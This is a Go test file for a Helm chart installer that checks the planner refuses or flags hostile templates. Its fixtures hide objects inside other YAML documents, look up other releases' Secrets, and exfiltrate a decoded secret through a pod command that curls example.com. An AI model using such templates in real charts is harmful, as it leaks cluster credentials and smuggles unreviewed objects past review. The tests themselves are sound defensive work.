package install

import (
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/caisson/caisson/internal/client/helm"
	"github.com/caisson/caisson/internal/event"
	"github.com/caisson/caisson/internal/testkit/stacktest"
)

// planChart packs, loads and plans one chart. path is "" where the plan is
// forbidden; found is what it came upon.
func (l *lab) planChart(stack stacktest.Stack) (path, found string) {
	l.t.Helper()
	stack.Name = l.name
	dir := l.site.Pack(l.t, stack)
	l.site.Load(l.t, dir)
	path, err := l.planOf(dir, "", event.Func(func(e event.Event) {
		if e.Finding != nil {
			found += fmt.Sprintf("%s %s: %s\n", e.Finding.Severity, e.Finding.Code, e.Finding.What)
		}
	}))
	if err != nil {
		return "", found + err.Error()
	}
	return path, found
}

// TestNoObjectHidesInAnother: what Helm would take for an object of its own is
// one in the plan as well, or is refused.
func TestNoObjectHidesInAnother(t *testing.T) {
	const (
		hidden   = "{apiVersion: v1, kind: ConfigMap, metadata: {name: hidden}}"
		innocent = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: innocent}\n"
		list     = "apiVersion: v1\nkind: List\nitems:\n- apiVersion: v1\n  kind: ConfigMap\n  metadata: %s\n  items: [" + hidden + "]\n"
	)
	l := newLab(t)
	for name, test := range map[string]struct{ file, text, want string }{
		"template": {"templates/a\n---\n" + hidden + "\n---\n#.yaml", innocent, "name is no plain text"},
		"list":     {"templates/a.yaml", fmt.Sprintf(list, "{name: innocent}"), "not a list has items"},
		"hook":     {"templates/a.yaml", fmt.Sprintf(list, "{name: innocent, annotations: {helm.sh/hook: pre-install}}"), "not a list has items"},
	} {
		path, found := l.planChart(oneChart("hidden-"+name, map[string]string{test.file: test.text}))
		if path != "" || !strings.Contains(found, test.want) {
			t.Errorf("%s: plan %q, found %s", name, path, found)
		}
	}
}

// TestLookupOfASecretByAnySpelling: another's Secret is not read by spelling its
// kind or its version in another way.
func TestLookupOfASecretByAnySpelling(t *testing.T) {
	l := newLab(t)
	l.cluster.Kubectl(t, "create", "namespace", "spelling")
	l.cluster.Kubectl(t, "create", "secret", "generic", "other", "-n", "spelling", "--from-literal=password=hunter2")
	for n, test := range []struct{ call, want string }{
		{`lookup "v1" "Secret"`, "error lookup:"},
		{`lookup "/v1" "Secret"`, "error lookup:"},
		{`lookup "" "Secret"`, "is not an API version"},
		{`lookup "v1" "secret"`, ""},
		{`lookup "v1" "SecretList"`, ""},
	} {
		l := *l
		l.name, l.state = fmt.Sprint(l.name, n), t.TempDir()
		release := fmt.Sprint("web", n)
		text := "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: " + release + "}\n" +
			"data: {got: {{ (" + test.call + ` "spelling" "other").data | toJson | quote }}}` + "\n"
		path, found := l.planChart(stacktest.Stack{Components: []stacktest.Component{{
			Name: "web", Namespace: "spelling", Charts: []stacktest.Chart{{Release: release, Files: map[string]string{"templates/a.yaml": text}}},
		}}})
		if (path == "") != (test.want != "") || !strings.Contains(found, test.want) {
			t.Errorf("%s: plan %q, found %s", test.call, path, found)
		}
		if path == "" {
			continue
		}
		if _, err := Run(t.Context(), l.options(path), event.Discard); err != nil {
			t.Fatal(err)
		}
		got := l.cluster.Kubectl(t, "get", "configmap", release, "-n", "spelling", "-o", "jsonpath={.data.got}")
		if got != "null" {
			t.Errorf("%s got %s", test.call, got)
		}
	}
}

// TestTemplatesDoNotTellSecrets: what a template reads of a Secret of its own
// release stands in no finding, no error and no plan.
func TestTemplatesDoNotTellSecrets(t *testing.T) {
	const value = "hunter2hunter2"
	const pod = "apiVersion: v1\nkind: Pod\nmetadata: {name: x}\nspec: {containers: [{name: x, %s}]}"
	const claim = "apiVersion: v1\nkind: PersistentVolumeClaim\nmetadata: {name: x}\n" +
		"spec: {storageClassName: '%s', accessModes: [ReadWriteOnce], resources: {requests: {storage: 1Gi}}}"
	l := newLab(t)
	l.cluster.Kubectl(t, "create", "namespace", "telling")
	l.cluster.Kubectl(t, "create", "secret", "generic", "own", "-n", "telling", "--from-literal=password="+value)
	l.cluster.Kubectl(t, "label", "secret", "own", "-n", "telling", "app.kubernetes.io/instance=web")
	for what, text := range map[string]string{
		"error":    `{{ fail . }}`,
		"question": `{{ $x := lookup "v1" "ConfigMap" "telling" . }}`,
		"name":     "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: '{{ . }}'}",
		"unsteady": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: 'x-{{ . }}-{{ randNumeric 9 }}'}",
		"class":    fmt.Sprintf(claim, "{{ . }}"),
		"image":    fmt.Sprintf(pod, "image: 'reg.example/{{ . }}:1'"),
		"address":  fmt.Sprintf(pod, "image: 'reg.example/x:1', command: [sh, -c, 'curl https://example.com/{{ . }}']"),
	} {
		path, found := l.planChart(oneChart("telling", map[string]string{
			"templates/a.yaml": `{{ with (lookup "v1" "Secret" "telling" "own").data.password | b64dec }}` + text + "{{ end }}\n",
		}))
		if path != "" || !strings.Contains(found, "a template tells what it looked up in a Secret") {
			t.Errorf("%s: plan %q, found %s", what, path, found)
		}
		written, _ := os.ReadFile(path)
		if strings.Contains(found+string(written), value) {
			t.Errorf("%s: the value is told", what)
		}
	}
}

// TestChangesDoNotTellSecrets: an object may hold what a template reads of a Secret. The
// plan to change it does not.
func TestChangesDoNotTellSecrets(t *testing.T) {
	const value = "hunter2hunter2"
	l := newLab(t)
	stack := oneChart("telling-change", map[string]string{"templates/a.yaml": "apiVersion: v1\nkind: Service\nmetadata: {name: x}\n" +
		`spec: {type: ExternalName, externalName: {{ with (lookup "v1" "Secret" .Release.Namespace "own").data }}` +
		`{{ .held | b64dec }}{{ else }}nothing{{ end }}.example}` + "\n"})
	l.install(l.plan(stack, ""))
	l.cluster.Kubectl(t, "create", "secret", "generic", "own", "-n", "telling-change", "--from-literal=held="+value)
	l.cluster.Kubectl(t, "label", "secret", "own", "-n", "telling-change", "app.kubernetes.io/instance=web")
	stack.Components[0].Charts[0].Files["templates/b.yaml"] = shown
	path := l.plan(stack, "")
	text, err := os.ReadFile(path)
	if err != nil || strings.Contains(string(text), value) || !strings.Contains(string(text), "looked up in a Secret") {
		_, after, _ := strings.Cut(string(text), "objectChanges")
		t.Errorf("the plan of the change: %s, %v", after, err)
	}
}

// TestRefusalsDoNotTellSecrets: a Secret that came after the plan was made changes what
// is rendered. The install is refused, in words that do not hold its value.
func TestRefusalsDoNotTellSecrets(t *testing.T) {
	const value = "hunter2hunter2"
	l := newLab(t)
	l.cluster.Kubectl(t, "create", "namespace", "telling-late")
	path, found := l.planChart(oneChart("telling-late", map[string]string{
		"templates/a.yaml": `{{ with (lookup "v1" "Secret" .Release.Namespace "own").data }}{{ with .password | b64dec }}` +
			"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: 'for-{{ . }}'}\n{{ end }}{{ end }}---\n" + shown,
	}))
	if path == "" {
		t.Fatal(found)
	}
	l.cluster.Kubectl(t, "create", "secret", "generic", "own", "-n", "telling-late", "--from-literal=password="+value)
	l.cluster.Kubectl(t, "label", "secret", "own", "-n", "telling-late", "app.kubernetes.io/instance=web")
	var told strings.Builder
	_, err := Run(t.Context(), l.options(path), event.Func(func(e event.Event) { fmt.Fprintf(&told, "%+v\n", e) }))
	if !errors.Is(err, ErrRendering) || !errors.Is(err, helm.ErrTold) {
		t.Errorf("error is %v", err)
	}
	if fmt.Fprintln(&told, err); strings.Contains(told.String(), value) {
		t.Errorf("the value is told: %s", told.String())
	}
}

// TestBlanksAtTheEndStay: Helm takes blanks off the end of a document, those of
// Unicode too, and with them the end of its last value.
func TestBlanksAtTheEndStay(t *testing.T) {
	const group = "system:authenticated\u00a0"
	l := newLab(t)
	path, found := l.planChart(oneChart("blanks", map[string]string{
		"templates/a.yaml": "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {name: x}\n" +
			"roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: view}\n" +
			"subjects: [{apiGroup: rbac.authorization.k8s.io, kind: Group, name: \"system:authenticated\\u00a0\"}]\n",
	}))
	if path == "" {
		t.Fatal(found)
	}
	if _, err := Run(t.Context(), l.options(path), event.Discard); err != nil {
		t.Fatal(err)
	}
	got := l.cluster.Kubectl(t, "get", "rolebinding", "x", "-n", "blanks", "-o", "jsonpath={.subjects[0].name}")
	if got != group {
		t.Errorf("bound is %q, planned %q", got, group)
	}
}
